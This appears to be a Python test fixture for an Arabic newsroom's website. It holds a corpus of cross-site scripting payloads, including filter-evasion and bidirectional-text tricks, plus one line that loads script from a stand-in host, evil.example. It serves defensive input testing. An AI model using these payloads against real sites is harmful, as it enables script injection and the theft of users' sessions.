"""A corpus of cross-site scripting vectors, for feeding through every text input.

Written for this project in the style of OWASP's XSS filter-evasion cheat sheet, plus Arabic and
bidirectional-text variants (U+202E RIGHT-TO-LEFT OVERRIDE and friends) that an Arabic newsroom's
inputs meet. Every vector that manages to run calls `alert()` or sets `window.__xss`, so a
browser test detects execution by listening for dialogs and reading that marker.

Use `XSS_VECTORS` (name -> payload). `MARKER_CHECK` is the JavaScript expression a test evaluates
after a page has loaded.
"""

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: text after it is displayed reversed
LRO = "\u202d"  # LEFT-TO-RIGHT OVERRIDE
RLI, PDI = "\u2067", "\u2069"  # RIGHT-TO-LEFT ISOLATE ... POP DIRECTIONAL ISOLATE
RLM, LRM = "\u200f", "\u200e"
ZWJ, ZWNJ = "\u200d", "\u200c"
ALM = "\u061c"  # ARABIC LETTER MARK

MARKER_CHECK = "() => Boolean(window.__xss)"

_BASIC = {
    "script-tag": "<script>alert(1)</script>",
    "script-marker": "<script>window.__xss=1</script>",
    "script-src-external": '<script src="//evil.example/x.js"></script>',
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-no-closing": "<script>alert(1)//",
    "script-split-by-null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script-nested-to-survive-one-pass": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-marker": '<img src="x" onerror="window.__xss=1">',
    "img-onerror-no-quotes-slash": "<img/src=x/onerror=alert(1)>",
    "img-onerror-grave-accent": "<img src=`x` onerror=`alert(1)`>",
    "img-onerror-entity-encoded": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "img-onerror-hex-entities": "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    "img-javascript-src": '<img src="javascript:alert(1)">',
    "img-malformed-quotes": '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-slash-onload": "<svg/onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate-href": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
    "body-onload": "<body onload=alert(1)>",
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed-src": '<embed src="data:text/html,<script>alert(1)</script>">',
    "a-javascript-href": '<a href="javascript:alert(1)">اضغط هنا</a>',
    "a-javascript-tab-split": '<a href="jav\tascript:alert(1)">x</a>',
    "a-javascript-entity-split": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a-javascript-newline-split": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "a-javascript-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "a-javascript-leading-space": '<a href=" &#14;  javascript:alert(1)">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "a-onmouseover": '<a onmouseover="alert(1)" href="#">x</a>',
    "p-onclick": '<p onclick="alert(1)">انقر</p>',
    "div-style-expression": '<div style="width:expression(alert(1))">x</div>',
    "style-tag-import": "<style>@import 'javascript:alert(1)';</style>",
    "style-background-url": '<p style="background:url(javascript:alert(1))">x</p>',
    "link-stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "form-action": '<form action="javascript:alert(1)"><button>x</button></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">x</button>',
    "input-autofocus-onfocus": "<input autofocus onfocus=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "video-source-onerror": "<video><source onerror=alert(1)></video>",
    "audio-src-onerror": "<audio src=x onerror=alert(1)>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "math-href": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "table-background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "comment-breakout": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "cdata-breakout": "<![CDATA[<]]>script>alert(1)<![CDATA[<]]>/script>",
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template-breakout": "<template><script>alert(1)</script></template><img src=x onerror=alert(1)>",
    "textarea-breakout": "</textarea><script>alert(1)</script>",
    "title-breakout": "</title><script>alert(1)</script>",
    "attribute-breakout-double": '"><script>alert(1)</script>',
    "attribute-breakout-single": "'><img src=x onerror=alert(1)>",
    "attribute-breakout-onfocus": '" autofocus onfocus="alert(1)',
    "json-script-breakout": "</script><script>alert(1)</script>",
    "js-string-breakout": "';alert(1);//",
    "js-template-literal": "${alert(1)}",
    "angular-template": "{{constructor.constructor('alert(1)')()}}",
    "django-template-syntax": "{% debug %}{{ request }}",
    "url-encoded-script": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "double-encoded-script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "fullwidth-brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "unicode-escape-in-js": '<img src=x onerror="\\u0061lert(1)">',
    "srcset-javascript": '<img srcset="javascript:alert(1) 1x">',
    "xml-namespace-script": '<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></html>',
}

_ARABIC_AND_BIDI = {
    "arabic-around-script": "خبر عاجل <script>alert(1)</script> من الرباط",
    "arabic-inside-handler": "<img src=x onerror=\"alert('مرحبا')\">",
    "arabic-indic-digits": "<img src=x onerror=alert(\u0661)>",
    "arabic-link-text-javascript": '<a href="javascript:window.__xss=1">اقرأ المزيد</a>',
    "rlo-reversed-script-tag": f"{RLO}>tpircs/<)1(trela>tpircs<",
    "rlo-inside-tag-name": f"<scr{RLO}ipt>alert(1)</scr{RLO}ipt>",
    "rlo-inside-javascript-scheme": f'<a href="java{RLO}script:alert(1)">x</a>',
    "rlo-hidden-handler": f'<p title="{RLO}"onclick=alert(1) x="">نص</p>',
    "rlo-filename-trick": f"تقرير{RLO}fdp.exe",
    "lro-before-tag": f"{LRO}<img src=x onerror=alert(1)>",
    "isolate-around-script": f"{RLI}<script>alert(1)</script>{PDI}",
    "rlm-in-attribute-name": f"<img src=x on{RLM}error=alert(1)>",
    "lrm-before-scheme": f'<a href="{LRM}javascript:alert(1)">x</a>',
    "zwj-in-scheme": f'<a href="java{ZWJ}script:alert(1)">x</a>',
    "zwnj-in-tag": f"<sc{ZWNJ}ript>alert(1)</sc{ZWNJ}ript>",
    "alm-before-handler": f"{ALM}<svg onload=alert(1)>",
    "tatweel-in-tag": "<scrـipt>alert(1)</scrـipt>",
    "arabic-attribute-breakout": '"><img src=x onerror=alert(1)> عنوان',
    "arabic-quote-marks": "«<img src=x onerror=alert(1)>»",
    "arabic-comma-js-breakout": "'،alert(1)،'",
}

XSS_VECTORS = {**_BASIC, **_ARABIC_AND_BIDI}
